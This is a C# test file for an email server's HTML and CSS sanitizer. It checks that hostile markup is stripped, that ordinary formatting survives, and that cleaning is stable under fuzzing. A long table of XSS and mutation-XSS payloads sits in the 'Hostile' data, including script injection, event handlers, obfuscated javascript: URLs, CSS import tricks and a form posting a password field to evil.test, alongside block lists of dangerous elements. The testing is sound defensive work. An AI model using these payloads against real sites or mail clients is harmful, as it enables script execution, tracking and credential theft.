using System.Text.RegularExpressions;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using FsCheck;
using FsCheck.Fluent;
using Smtpd.Server.Reading;

namespace Smtpd.Server.Tests.Reading;

/// <summary>What is written is parsed by a browser's parser of other people, and looked at as a tree: the cleaner and its judge share nothing.</summary>
public sealed class SafeHtmlTests
{
    private static readonly string[] s_neverElements =
    [
        "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "link", "meta", "base", "form", "input", "button", "select", "textarea", "template", "noscript", "video", "audio",
        "title", "xmp", "plaintext", "noembed", "noframes", "portal", "foreignobject", "annotation-xml", "marquee", "isindex", "keygen", "slot", "dialog", "canvas", "image",
    ];

    private static readonly Regex s_strings = new("url\\(\"[^\"\n]*\"\\)|\"[^\"\n]*\"|'[^'\n]*'", RegexOptions.NonBacktracking);

    private static readonly string[] s_neverAttributes = ["srcdoc", "action", "formaction", "ping", "data", "poster", "xlink:href", "http-equiv", "code", "archive"];

    private static readonly string[] s_neverInCss = ["expression", "behavior", "-moz-binding", "@import", "javascript", "url(http", "url(\"http", "url(//", "\\", "image-set", "@charset", "@namespace", "fixed", "</"];

    // Each: what comes in, and what must be nowhere in what goes out, even as text.
    public static TheoryData<string, string> Hostile => new()
    {
        { "<script>alert(1)</script>", "alert" },
        { "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "evil" },
        { "<script/x>alert(1)</script >after", "alert" },
        { "<script>alert(1)", "alert" },
        { "<scr<script>ipt>alert(1)</scr</script>ipt>", "<scr" },
        { "<<script>alert(1);//<</script>", "alert" },
        { "<img src=x onerror=alert(1)>", "onerror" },
        { "<img src=x OnErRoR=\"alert(1)\">", "alert" },
        { "<img/src=x/onerror=alert(1)>", "onerror=" },
        { "<img \"\"\"><script>alert(1)</script>\">", "alert" },
        { "<img src='x'onerror='alert(1)'>", "alert" },
        { "<body onload=alert(1)>", "alert" },
        { "<body background=javascript:alert(1)>", "javascript" },
        { "<a href=javascript:alert(1)>x</a>", "javascript" },
        { "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "alert" },
        { "<a href=\" \u0001javascript:alert(1)\">x</a>", "alert" },
        { "<a href=\"java\tscript:alert(1)\">x</a>", "alert" },
        { "<a href=\"java\nscript:alert(1)\">x</a>", "alert" },
        { "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>", "alert" },
        { "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>", "alert" },
        { "<a href=\"javascript&colon;alert(1)\">x</a>", "alert" },
        { "<a href=\"java&Tab;script:alert(1)\">x</a>", "alert" },
        { "<a href=\"vbscript:msgbox(1)\">x</a>", "msgbox" },
        { "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "data:" },
        { "<a href=\"blob:https://x.test/1\">x</a>", "blob" },
        { "<a href=\"file:///etc/passwd\">x</a>", "passwd" },
        { "<a href=\"/api/mailboxes\">x</a>", "api" },
        { "<a href=\"https://x.test/\" onclick=alert(1) ping=https://evil.test>x</a>", "ping" },
        { "<img src=\"https://evil.test/pixel.gif\">", "evil.test" },
        { "<img src=\"//evil.test/pixel.gif\">", "evil.test" },
        { "<img srcset=\"https://evil.test/a 1x, https://evil.test/b 2x\">", "evil.test" },
        { "<picture><source srcset=https://evil.test/a><img></picture>", "evil.test" },
        { "<table background=https://evil.test/a><tr><td background=https://evil.test/b>x</table>", "evil.test" },
        { "<video poster=https://evil.test/a src=https://evil.test/b><source src=https://evil.test/c></video>", "evil.test" },
        { "<audio src=https://evil.test/a autoplay>", "evil.test" },
        { "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">", "svg" },
        { "<img src=\"data:text/html;base64,AAAA\">", "data:text" },
        { "<img src=\"data:image/png;base64,AAAA\" lowsrc=https://evil.test dynsrc=https://evil.test longdesc=https://evil.test>", "evil.test" },
        { "<div style=\"background:url(https://evil.test/a)\">x</div>", "evil.test" },
        { "<div style=\"background:u\\72l(https://evil.test/a)\">x</div>", "evil.test" },
        { "<div style=\"background:url/**/(https://evil.test/a)\">x</div>", "evil.test" },
        { "<div style=\"background:URL( 'https://evil.test/a' )\">x</div>", "evil.test" },
        { "<div style=\"background:image-set('https://evil.test/a' 1x)\">x</div>", "evil.test" },
        { "<div style=\"width:expression(alert(1))\">x</div>", "alert" },
        { "<div style=\"width:exp/**/ression(alert(1))\">x</div>", "alert" },
        { "<div style=\"width:\\65xpression(alert(1))\">x</div>", "alert" },
        { "<div style=\"-moz-binding:url(https://evil.test/x#y)\">x</div>", "binding" },
        { "<div style=\"behavior:url(x.htc)\">x</div>", "behavior" },
        { "<div style=\"position:fixed;top:0\">x</div>", "fixed" },
        { "<div style=\"color:red;}*{background:url(https://evil.test)\">x</div>", "evil.test" },
        { "<div style='font-family:\"</div><script>alert(1)</script>\"'>x</div>", "alert" },
        { "<style>@import 'https://evil.test/a.css';</style>", "evil.test" },
        { "<style>@im\\port url(https://evil.test/a.css);</style>", "evil.test" },
        { "<style>@font-face{font-family:x;src:url(https://evil.test/a)}</style>", "evil.test" },
        { "<style>a{background:url(https://evil.test/a)}</style>", "evil.test" },
        { "<style>input[value^=a]{background:url(//evil.test/a)}</style>", "evil.test" },
        { "<style>a{color:red}</style ><script>alert(1)</script>", "alert" },
        { "<style><!--</style><script>alert(1)//--></script>", "alert" },
        { "<style>a[x=\"</style><script>alert(1)</script>\"]{color:red}</style>", "<script" },
        { "<style>a{color:/<!--*red}b[c=\"*/ @import 'https://evil.test/a';\"]{color:red}</style>", "/*" },
        { "<style>a{x:'\n}@import url(https://evil.test);'}</style>", "evil.test" },
        { "<style>{}@media x{@import 'https://evil.test';a{color:red}}</style>", "evil.test" },
        { "<link rel=stylesheet href=https://evil.test/a.css>", "evil.test" },
        { "<link rel=prefetch href=https://evil.test/a>", "evil.test" },
        { "<meta http-equiv=refresh content=\"0;url=https://evil.test\">", "evil.test" },
        { "<base href=https://evil.test/>", "evil.test" },
        { "<iframe src=https://evil.test></iframe>", "evil.test" },
        { "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "alert" },
        { "<object data=https://evil.test type=text/html><embed src=https://evil.test></object>", "evil.test" },
        { "<applet code=x archive=https://evil.test></applet>", "evil.test" },
        { "<frameset onload=alert(1)><frame src=https://evil.test></frameset>", "evil.test" },
        { "<form action=https://evil.test><input name=p type=password><button formaction=https://evil.test>go</button></form>", "evil.test" },
        { "<input onfocus=alert(1) autofocus>", "alert" },
        { "<isindex action=javascript:alert(1) type=image>", "alert" },
        { "<svg onload=alert(1)>", "alert" },
        { "<svg><script>alert(1)</script></svg>", "alert" },
        { "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "alert" },
        { "<svg><image href=https://evil.test/a></svg>", "evil.test" },
        { "<svg><style><img src=x onerror=alert(1)></style></svg>", "alert" },
        { "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "onerror=" },
        { "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<mglyph" },
        { "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "onerror=" },
        { "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<noscript" },
        { "<noembed><img src=x onerror=alert(1)></noembed>", "alert" },
        { "<xmp><img src=x onerror=alert(1)></xmp>", "<img" },
        { "<textarea></textarea><img src=x onerror=alert(1)>", "alert" },
        { "<textarea><img src=x onerror=alert(1)></textarea>", "<img" },
        { "<title></title><img src=x onerror=alert(1)>", "alert" },
        { "<plaintext><script>alert(1)</script>", "<script" },
        { "<template><script>alert(1)</script></template>", "alert" },
        { "<!--><script>alert(1)</script>-->", "alert" },
        { "<!-- --!><script>alert(1)</script>-->", "alert" },
        { "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "alert" },
        { "<![CDATA[<script>alert(1)</script>]]>", "<script" },
        { "<?xml version=1?><?php echo '<script>' ?><script>alert(1)</script>", "alert" },
        { "<marquee onstart=alert(1)>x</marquee>", "alert" },
        { "<details ontoggle=alert(1) open>x</details>", "alert" },
        { "<div style=\"x:y\" style=\"behavior:url(x)\" id='a' onmouseover\n=\nalert(1)>x</div>", "alert" },
        { "<a href=\"https://x.test/\" target=_top rel=opener>x</a>", "_top" },
        { "<a\0href=javascript:alert(1) href=https://x.test>x</a\0>", "javascript" },
        { "<img src=\"cid:unknown\" alt=kept>", "cid:" },
        { "<a href=\"https://x.test/&quot; onmouseover=&quot;alert(1)\">x</a>", "\" onmouseover" },
        { "<p title='\"><script>alert(1)</script>'>x</p>", "<script" },
        { "&lt;script&gt;alert(1)&lt;/script&gt;", "<script" },
        { "&#60;script&#62;alert(1)&#60;/script&#62;", "<script" },
        { "<image src=https://evil.test/a>", "evil.test" },
        { "<dialog open><portal src=https://evil.test></portal></dialog>", "evil.test" },
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Hostile_html_is_harmless(string html, string mustNotBeLeft)
    {
        var result = SafeHtml.Clean(html);
        Assert.DoesNotContain(mustNotBeLeft, result.Html, StringComparison.OrdinalIgnoreCase);
        Judge(result.Html);
        Assert.Equal(result.Html, SafeHtml.Clean(result.Html).Html);
        // With remote content, too, nothing but pictures and fonts is fetched.
        Judge(SafeHtml.Clean(html, RemoteContent.Allowed).Html, RemoteContent.Allowed);
    }

    [Theory]
    [InlineData("<p>Hello <b>world</b>", "<p>Hello <b>world</b>")]
    [InlineData("a < b && c > d", "a &lt; b &amp;&amp; c &gt; d")]
    [InlineData("caf&eacute; &#8364; &#150; &hellip; &check; &amp;lt;", "café € – … &check; &amp;lt;")]
    [InlineData("<b><i>x</b></i>", "<b><i>x</b></i>")]
    [InlineData("<div><span>x", "<div><span>x</span></div>")]
    [InlineData("x</div></span>", "x")]
    [InlineData("<o:p>x</o:p><v:roundrect>y</v:roundrect>", "xy")]
    [InlineData("<form>Name <input type=text value=secret><input type=submit value=\"Send & go\"></form>", "Name Send &amp; go")]
    [InlineData("<select><option>One<option>Two</select><textarea>&lt;b&gt;</textarea>", " One Two&lt;b&gt;")]
    [InlineData("<!DOCTYPE html><html><head><title>t</title></head><body bgcolor=#fff>x</body></html>", "<!DOCTYPE html><html><head></head><body bgcolor=\"#fff\">x</body></html>")]
    [InlineData(" <!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01 Transitional//EN\" \"http://www.w3.org/TR/html4/loose.dtd\">x", "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">x")]
    [InlineData("<a href=\"https://x.test/?a=1&amp;b=2&copy=3\">x</a>", "<a href=\"https://x.test/?a=1&amp;b=2&amp;copy=3\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>")]
    [InlineData("<a href=\" https://x.test/a\r\n\tb c \">x</a>", "<a href=\"https://x.test/ab%20c\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>")]
    [InlineData("<a href=#top>x</a><a name=top>y</a>", "<a href=\"#top\">x</a><a name=\"top\">y</a>")]
    [InlineData("<a href=mailto:a@x.test>x", "<a href=\"mailto:a@x.test\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>")]
    [InlineData("<a name=x><a name=y>", "<a name=\"x\"></a><a name=\"y\"></a>")]
    [InlineData("<style media=print>a{color:red}</style>", "<style media=\"print\">\na{color:red}\n</style>")]
    public void Ordinary_html_keeps_its_look(string html, string expected) => Assert.Equal(expected, SafeHtml.Clean(html).Html);

    [Theory]
    [InlineData("color: RED ; margin:0 auto!important", "color:RED;margin:0 auto!important")]
    [InlineData("mso-line-height-rule:exactly;line-height:20px", "line-height:20px")]
    [InlineData("background:#fff url(https://x.test/a.png) repeat-x", "background:#fff none repeat-x")]
    [InlineData("background:linear-gradient(to right, rgba(0,0,0,.5), #fff)", "background:linear-gradient(to right, rgba(0,0,0,.5), #fff)")]
    [InlineData("font:12px/1.5 \"Helvetica Neue\",'Segoe UI',sans-serif", "font:12px/1.5 \"Helvetica Neue\",'Segoe UI',sans-serif")]
    [InlineData("width:calc(100% - (2 * 10px));content:'a;b'", "width:calc(100% - (2 * 10px));content:'a;b'")]
    [InlineData("color:red;;bogus;:x;filter:alpha(opacity=50);color:blue", "color:red;color:blue")]
    [InlineData("color:red/*;*/;width:1px\\9", "color:red")]
    [InlineData("position:absolute;left:0", "position:absolute;left:0")]
    public void Styles_keep_what_is_understood(string style, string expected) => Assert.Equal(expected, new SafeCss(new(RemoteContent.Blocked, null)).Declarations(style));

    [Fact]
    public void Style_sheets_keep_rules_and_media_queries()
    {
        const string sheet = """
            <!-- @charset "utf-8"; /* a comment */
            body, table td > a:hover { color : #333; margin:0 }
            @media only screen and (max-width: 600px) { .wide { width: 100% !important } u + .body .x { display:none } }
            @media (prefers-color-scheme: dark) { [data-ogsc] .a { color:#fff } }
            @keyframes fade { from { opacity:0 } 50% { opacity:.5 } }
            .broken { color: red
            """;
        const string expected = """
            body, table td > a:hover{color:#333;margin:0}
            @media only screen and (max-width: 600px){
            .wide{width:100% !important}
            u + .body .x{display:none}
            }
            @media (prefers-color-scheme: dark){
            [data-ogsc] .a{color:#fff}
            }
            @keyframes fade{
            from{opacity:0}
            50%{opacity:.5}
            }
            .broken{color:red}

            """;
        Assert.Equal(expected, new SafeCss(new(RemoteContent.Blocked, null)).Sheet(sheet));
    }

    [Fact]
    public void Remote_content_is_counted_and_named_and_comes_back_when_asked()
    {
        const string html = "<img src=https://img.example.com/a.png width=20 alt=A><img src=\"http://IMG.example.com/b\"><div style=\"background:url('https://cdn.test/c d.png')\"></div>"
            + "<img srcset='https://x.test/1 1x, https://x.test/2 2x'><style>@font-face{font-family:F;src:url(https://fonts.test/f.woff2) format('woff2')}</style>";
        var blocked = SafeHtml.Clean(html);
        Assert.Equal(6, blocked.BlockedLoads);
        Assert.Equal(["cdn.test", "fonts.test", "img.example.com", "x.test"], blocked.ExternalHosts);
        Assert.StartsWith($"<img src=\"{RemoteLoads.EmptyPicture}\" width=\"20\" alt=\"A\">", blocked.Html, StringComparison.Ordinal);
        var allowed = SafeHtml.Clean(html, RemoteContent.Allowed);
        Assert.Equal(0, allowed.BlockedLoads);
        Assert.Equal("<img src=\"https://img.example.com/a.png\" referrerpolicy=\"no-referrer\" width=\"20\" alt=\"A\"><img src=\"http://IMG.example.com/b\" referrerpolicy=\"no-referrer\">"
            + "<div style=\"background:url(&quot;https://cdn.test/c%20d.png&quot;)\"></div><img srcset=\"https://x.test/1 1x, https://x.test/2 2x\">"
            + "<style>\n@font-face{font-family:F;src:url(\"https://fonts.test/f.woff2\") format('woff2')}\n</style>", allowed.Html);
        Assert.Equal(allowed.Html, SafeHtml.Clean(allowed.Html, RemoteContent.Allowed).Html);
    }

    [Fact]
    public void Parts_of_the_message_are_shown_where_it_names_them()
    {
        var result = SafeHtml.Clean("<img src=\"cid:logo%40x\"><td background=CID:bg style=\"background:url(cid:bg)\"><img src=cid:gone alt=gone>", contentUrl: id => id switch { "logo@x" => "/parts/1", "bg" => "/parts/2?a=1&b=2", _ => null });
        Assert.Equal("<img src=\"/parts/1\"><td background=\"/parts/2?a=1&amp;b=2\" style=\"background:url(&quot;/parts/2?a=1&amp;b=2&quot;)\"><img alt=\"gone\">", result.Html);
        Assert.Equal(0, result.BlockedLoads);
    }

    [Theory]
    [InlineData("<p>x</p>", false, false)]
    [InlineData("<script></script>", true, false)]
    [InlineData("<p onclick=x>", true, false)]
    [InlineData("<a href=javascript:x>", true, false)]
    [InlineData("<form>", false, true)]
    [InlineData("<input>", false, true)]
    public void What_was_taken_away_is_said(string html, bool scripts, bool forms)
    {
        var result = SafeHtml.Clean(html);
        Assert.Equal((scripts, forms, false), (result.HadScripts, result.HadForms, result.IsCut));
    }

    [Theory]
    [InlineData("<div>", 400_000)]
    [InlineData("<b><p>", 300_000)]
    [InlineData("</x>", 500_000)]
    [InlineData("<span></b>", 200_000)]
    [InlineData("<a href=x>", 200_000)]
    [InlineData("<", 2_000_000)]
    [InlineData("<!--", 500_000)]
    [InlineData("<!-- --", 300_000)]
    [InlineData("<a b='", 300_000)]
    [InlineData("<p x ", 400_000)]
    [InlineData("<style>", 300_000)]
    [InlineData("<style></style x", 130_000)]
    [InlineData("&", 2_000_000)]
    [InlineData("&amp", 500_000)]
    [InlineData("<p style='a:((((((((((((((((((((((((((((((((", 50_000)]
    [InlineData("<style>a{{{{{{{{{{{{{{{{{{{{{{{{{{{", 60_000)]
    [InlineData("<table><tr><td>", 130_000)]
    public void Size_and_depth_cost_time_in_proportion_only(string piece, int count)
    {
        var html = string.Concat(Enumerable.Repeat(piece, count));
        var start = TimeProvider.System.GetTimestamp();
        var result = SafeHtml.Clean(html);
        Assert.InRange(TimeProvider.System.GetElapsedTime(start).TotalSeconds, 0, 20); // a second or less; a square of the length would take hours
        Assert.Equal(html.Length > SafeHtml.MaximumLength, result.IsCut);
        Assert.InRange(result.Html.Length, 0, SafeHtml.MaximumOutput + (6 * SafeHtml.MaximumLength));
    }

    [Fact]
    public void No_element_is_deeper_than_browsers_go()
    {
        var html = SafeHtml.Clean(string.Concat(Enumerable.Repeat("<div>", 100_000)) + "x").Html;
        Assert.Equal(256, html.Split("<div>").Length - 1);
        Assert.Equal(256, html.Split("</div>").Length - 1);
    }

    [Fact]
    public void Any_mixture_is_harmless_and_cleaning_twice_is_cleaning_once()
    {
        string[] pieces =
        [
            "<", ">", "/", "=", "\"", "'", " ", "&", ";", "#", "!", "--", "<!--", "-->", "--!>", "<script", "</script>", "<style", "</style>", "<img", " src=", " onerror=", "alert(1)", "<a href=", "javascript:", "https://x.test/", "//x.test",
            " style=", "color:red", "url(", ")", "{", "}", "@media x", "@import", "/*", "*/", "\\", "<svg>", "</svg>", "<math>", "<mtext>", "<noscript>", "</noscript>", "<title>", "</title>", "<textarea>", "</textarea>", "<xmp>", "<table>", "<td>",
            "<p>", "</p>", "<b>", "</b>", "<form>", "<select>", "<option>", "<template>", "&lt;", "&#60", "&#x3c;", "&amp", "&nope;", "\0", "\n", "\ud800", "<![CDATA[", "]]>", "<!doctype", "<plaintext>", "x", " title=", "<br", "cid:a", "data:image/png;base64,AA", "<body", " background=",
        ];
        Check.One(Config.QuickThrowOnFailure.WithMaxTest(1500).WithReplay(20261123, 4011), Prop.ForAll(Gen.Elements(pieces).ArrayOf().Select(string.Concat).ToArbitrary(), html =>
        {
            foreach (var remote in new[] { RemoteContent.Blocked, RemoteContent.Allowed })
            {
                var once = SafeHtml.Clean(html, remote).Html;
                Assert.Equal(once, SafeHtml.Clean(once, remote).Html);
                Judge(once, remote);
            }
        }));
    }

    [Fact]
    public void Broken_hostile_html_is_harmless()
    {
        var hostile = Hostile.Select(each => each.Data.Item1).ToArray();
        var mutations = from html in Gen.Elements(hostile)
                        from other in Gen.Elements(hostile)
                        from cut in Gen.Choose(0, html.Length)
                        from start in Gen.Choose(0, other.Length)
                        select html[..cut] + other[start..] + html[cut..];
        Check.One(Config.QuickThrowOnFailure.WithMaxTest(1000).WithReplay(20261123, 4013), Prop.ForAll(mutations.ToArbitrary(), html =>
        {
            var once = SafeHtml.Clean(html).Html;
            Judge(once);
            Assert.Equal(once, SafeHtml.Clean(once).Html);
        }));
    }

    private static void Judge(string html, RemoteContent remote = RemoteContent.Blocked)
    {
        foreach (var isScripting in new[] { false, true })
        {
            // Twice: what a parser makes of it, written and parsed again, must be as harmless (mutation XSS).
            var document = new HtmlParser(new() { IsScripting = isScripting }).ParseDocument(html);
            Judge(document, remote);
            Judge(new HtmlParser(new() { IsScripting = isScripting }).ParseDocument(document.DocumentElement.OuterHtml), remote);
        }
    }

    private static void Judge(IDocument document, RemoteContent remote)
    {
        foreach (var node in document.GetDescendants())
            Assert.NotEqual(NodeType.Comment, node.NodeType);
        foreach (var element in document.All)
        {
            Assert.DoesNotContain(element.LocalName, s_neverElements);
            Assert.Equal("http://www.w3.org/1999/xhtml", element.NamespaceUri);
            if (element.LocalName == "style")
                JudgeCss(element.TextContent, remote);
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), attribute.Name);
                Assert.DoesNotContain(attribute.Name, s_neverAttributes);
                JudgeValue(attribute.Name, attribute.Value, remote);
            }
        }
    }

    private static void JudgeValue(string name, string value, RemoteContent remote)
    {
        switch (name)
        {
            case "href":
                Assert.Matches("^(https?://|mailto:|tel:|#)", value.ToLowerInvariant());
                break;
            case "src" or "background" or "srcset":
                Assert.Matches(remote == RemoteContent.Blocked ? "^data:image/(png|jpeg|jpg|gif|webp);base64," : "^(data:image/(png|jpeg|jpg|gif|webp);base64,|https?://)", value.ToLowerInvariant());
                break;
            case "style":
                JudgeCss(value, remote);
                break;
        }
    }

    private static void JudgeCss(string css, RemoteContent remote)
    {
        // What a string says is only said.
        var outside = s_strings.Replace(css, each => each.Value.StartsWith("url", StringComparison.Ordinal) ? each.Value : "s");
        foreach (var never in s_neverInCss.Where(each => remote == RemoteContent.Blocked || !each.StartsWith("url(", StringComparison.Ordinal)))
            Assert.DoesNotContain(never, outside.ToLowerInvariant(), StringComparison.Ordinal);
        Assert.DoesNotContain("<", css, StringComparison.Ordinal);
        Assert.DoesNotContain("/*", outside, StringComparison.Ordinal);
        Assert.DoesNotContain("\"", outside.Replace("url(\"", "", StringComparison.Ordinal).Replace("\")", "", StringComparison.Ordinal), StringComparison.Ordinal);
    }
}
